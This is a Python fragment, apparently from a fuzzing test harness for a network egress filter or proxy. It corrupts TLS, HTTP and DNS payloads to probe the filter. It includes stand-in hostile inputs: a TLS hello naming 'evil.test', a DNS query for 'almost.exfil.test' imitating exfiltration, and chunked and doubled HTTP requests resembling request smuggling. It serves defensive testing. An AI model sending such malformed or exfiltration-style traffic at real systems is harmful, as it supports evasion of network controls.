

def spoilt(data, rng):
    """The same bytes with one to three small faults."""
    data = bytearray(data)
    for _ in range(rng.randint(1, 3)):
        at, size = rng.randrange(len(data) + 1), rng.randint(1, 8)
        kind = rng.randrange(6)
        if kind == 0 and at < len(data):
            data[at] ^= 1 << rng.randrange(8)
        elif kind == 1 and at < len(data):
            data[at] = rng.choice((0, 1, 9, 10, 13, 32, 58, 127, 255))
        elif kind == 2:
            del data[at:at + size]
        elif kind == 3:
            data[at:at] = data[at:at + size]
        elif kind == 4:
            data[at:at] = bytes(rng.randrange(256) for _ in range(size))
        elif len(data) > 1:
            del data[at or 1:]
    return bytes(data)


def mutated(count, seed, where):
    """Flows that say something almost right, or almost wrong."""
    import random
    rng, jobs = random.Random(seed), []
    said = [(443, lambda: tls.hello("almost")), (443, lambda: tls.hello("almost", b"evil.test")), (445, lambda: tls.hello("almost", size=60)),
            (80, lambda: GOOD.encode()), (80, lambda: (CHUNKED + "4\r\nbody\r\n0\r\n\r\n" + GOOD).encode()), (80, lambda: (GOOD + GOOD).encode()),
            (8080, lambda: b"POST /x HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\n\r\nbody"), (7001, lambda: tls.hello("almost"))]
    for number in range(count):
        port, make = said[number % len(said)]
        data = spoilt(make(), rng)
        if number % 3 == 0 and where.kind in PROXIED:
            jobs.append({"do": "flow", "way": "egress", "steps": [send(spoilt(head("api.test:%d" % port)("x"), rng) + data), {"finish": True}, {"closed": 200}]})
        elif number % 5 == 0 and where.kind == "netns":
            jobs.append(udp("8.8.8.8", 53, spoilt(names.query("almost.exfil.test"), rng), ms=200))
        else:
            jobs.append(flow("api.test", port, send(data), {"finish": True}, {"closed": 200}))
    return jobs


NAMES = {attack.name for attack in ATTACKS}
assert len(NAMES) == len(ATTACKS), sorted(a.name for a in ATTACKS if [b.name for b in ATTACKS].count(a.name) > 1)
